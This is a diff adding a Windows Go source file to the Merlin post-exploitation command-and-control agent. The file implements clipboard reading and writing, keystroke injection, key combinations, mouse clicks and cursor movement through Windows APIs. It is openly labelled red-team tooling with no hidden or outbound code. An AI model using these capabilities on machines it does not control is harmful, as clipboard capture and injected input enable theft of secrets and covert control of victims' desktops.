@@ -0,0 +1,212 @@
+//go:build windows
+
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2023 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+package commands
+
+import (
+	// Standard
+	"fmt"
+	"runtime"
+	"unicode/utf16"
+	"unsafe"
+
+	// X Packages
+	"golang.org/x/sys/windows"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/v2/os/windows/api/kernel32"
+	"github.com/Ne0nd0g/merlin-agent/v2/os/windows/api/user32"
+)
+
+// virtualKeys maps key names to Windows virtual-key codes
+// https://learn.microsoft.com/en-us/windows/win32/inputdev/virtual-key-codes
+var virtualKeys = map[string]uint16{
+	"backspace": 0x08, "tab": 0x09, "enter": 0x0D, "shift": 0x10, "ctrl": 0x11, "alt": 0x12, "pause": 0x13,
+	"capslock": 0x14, "esc": 0x1B, "space": 0x20, "pageup": 0x21, "pagedown": 0x22, "end": 0x23, "home": 0x24,
+	"left": 0x25, "up": 0x26, "right": 0x27, "down": 0x28, "printscreen": 0x2C, "insert": 0x2D, "delete": 0x2E,
+	"win": 0x5B, "menu": 0x5D,
+}
+
+// extendedKeys are the virtual-key codes that must be sent with KEYEVENTF_EXTENDEDKEY
+var extendedKeys = map[uint16]bool{
+	0x21: true, 0x22: true, 0x23: true, 0x24: true, 0x25: true, 0x26: true, 0x27: true, 0x28: true, 0x2D: true,
+	0x2E: true, 0x5B: true, 0x5D: true,
+}
+
+// virtualKey returns the virtual-key code for a key name, letter, digit, or function key (f1-f24)
+func virtualKey(name string) (uint16, error) {
+	if vk, ok := virtualKeys[name]; ok {
+		return vk, nil
+	}
+	if len(name) == 1 {
+		c := name[0]
+		switch {
+		case c >= 'a' && c <= 'z':
+			return uint16(c - 'a' + 'A'), nil
+		case c >= '0' && c <= '9':
+			return uint16(c), nil
+		}
+	}
+	var f int
+	if _, err := fmt.Sscanf(name, "f%d", &f); err == nil && f >= 1 && f <= 24 {
+		return uint16(0x70 + f - 1), nil
+	}
+	return 0, fmt.Errorf("unknown key %s", name)
+}
+
+// getClipboard returns the text on the clipboard
+func getClipboard() (string, error) {
+	// The clipboard is opened by, and must be closed from, the same thread
+	runtime.LockOSThread()
+	defer runtime.UnlockOSThread()
+
+	err := user32.OpenClipboard(0)
+	if err != nil {
+		return "", err
+	}
+	defer user32.CloseClipboard()
+
+	hMem, err := user32.GetClipboardData(user32.CF_UNICODETEXT)
+	if err != nil {
+		return "", err
+	}
+	addr, err := kernel32.GlobalLock(hMem)
+	if err != nil {
+		return "", err
+	}
+	defer kernel32.GlobalUnlock(hMem)
+	return windows.UTF16PtrToString((*uint16)(addr)), nil
+}
+
+// setClipboard replaces the contents of the clipboard with the text
+func setClipboard(text string) error {
+	data, err := windows.UTF16FromString(text)
+	if err != nil {
+		return err
+	}
+	// GMEM_MOVEABLE is required for clipboard data
+	hMem, err := kernel32.GlobalAlloc(0x0002, uintptr(len(data)*2))
+	if err != nil {
+		return err
+	}
+	addr, err := kernel32.GlobalLock(hMem)
+	if err != nil {
+		kernel32.GlobalFree(hMem)
+		return err
+	}
+	copy(unsafe.Slice((*uint16)(addr), len(data)), data)
+	kernel32.GlobalUnlock(hMem)
+
+	// The clipboard is opened by, and must be closed from, the same thread
+	runtime.LockOSThread()
+	defer runtime.UnlockOSThread()
+
+	err = user32.OpenClipboard(0)
+	if err != nil {
+		kernel32.GlobalFree(hMem)
+		return err
+	}
+	defer user32.CloseClipboard()
+
+	err = user32.EmptyClipboard()
+	if err == nil {
+		err = user32.SetClipboardData(user32.CF_UNICODETEXT, hMem)
+	}
+	if err != nil {
+		// The system only owns the memory once SetClipboardData succeeds
+		kernel32.GlobalFree(hMem)
+	}
+	return err
+}
+
+// typeText sends each character as a Unicode key press; new lines press the enter key
+func typeText(text string) error {
+	var inputs []user32.KeyboardInput
+	for _, r := range text {
+		switch r {
+		case '\r':
+			continue
+		case '\n':
+			inputs = append(inputs, keyInput(0x0D, false), keyInput(0x0D, true))
+			continue
+		}
+		for _, unit := range utf16.Encode([]rune{r}) {
+			inputs = append(inputs,
+				user32.KeyboardInput{Type: user32.INPUT_KEYBOARD, Ki: user32.KEYBDINPUT{Scan: unit, Flags: user32.KEYEVENTF_UNICODE}},
+				user32.KeyboardInput{Type: user32.INPUT_KEYBOARD, Ki: user32.KEYBDINPUT{Scan: unit, Flags: user32.KEYEVENTF_UNICODE | user32.KEYEVENTF_KEYUP}},
+			)
+		}
+	}
+	return sendKeys(inputs)
+}
+
+// pressKeys presses each key in order and then releases them in reverse order
+func pressKeys(keys []string) error {
+	var down, up []user32.KeyboardInput
+	for _, key := range keys {
+		vk, err := virtualKey(key)
+		if err != nil {
+			return err
+		}
+		down = append(down, keyInput(vk, false))
+		up = append([]user32.KeyboardInput{keyInput(vk, true)}, up...)
+	}
+	return sendKeys(append(down, up...))
+}
+
+// click presses and releases the left or right mouse button at the cursor's current position
+func click(right bool) error {
+	downFlag, upFlag := user32.MOUSEEVENTF_LEFTDOWN, user32.MOUSEEVENTF_LEFTUP
+	if right {
+		downFlag, upFlag = user32.MOUSEEVENTF_RIGHTDOWN, user32.MOUSEEVENTF_RIGHTUP
+	}
+	inputs := []user32.MouseInput{
+		{Type: user32.INPUT_MOUSE, Mi: user32.MOUSEINPUT{Flags: downFlag}},
+		{Type: user32.INPUT_MOUSE, Mi: user32.MOUSEINPUT{Flags: upFlag}},
+	}
+	return user32.SendInput(uint32(len(inputs)), unsafe.Pointer(&inputs[0]), int32(unsafe.Sizeof(inputs[0])))
+}
+
+// moveMouse moves the cursor to the screen coordinates
+func moveMouse(x, y int) error {
+	return user32.SetCursorPos(int32(x), int32(y))
+}
+
+// keyInput returns the INPUT structure to press or release a virtual key
+func keyInput(vk uint16, release bool) user32.KeyboardInput {
+	var flags uint32
+	if extendedKeys[vk] {
+		flags |= user32.KEYEVENTF_EXTENDEDKEY
+	}
+	if release {
+		flags |= user32.KEYEVENTF_KEYUP
+	}
+	return user32.KeyboardInput{Type: user32.INPUT_KEYBOARD, Ki: user32.KEYBDINPUT{Vk: vk, Flags: flags}}
+}
+
+// sendKeys sends the keyboard inputs in a single call so that other input isn't interleaved with them
+func sendKeys(inputs []user32.KeyboardInput) error {
+	if len(inputs) == 0 {
+		return nil
+	}
+	return user32.SendInput(uint32(len(inputs)), unsafe.Pointer(&inputs[0]), int32(unsafe.Sizeof(inputs[0])))
+}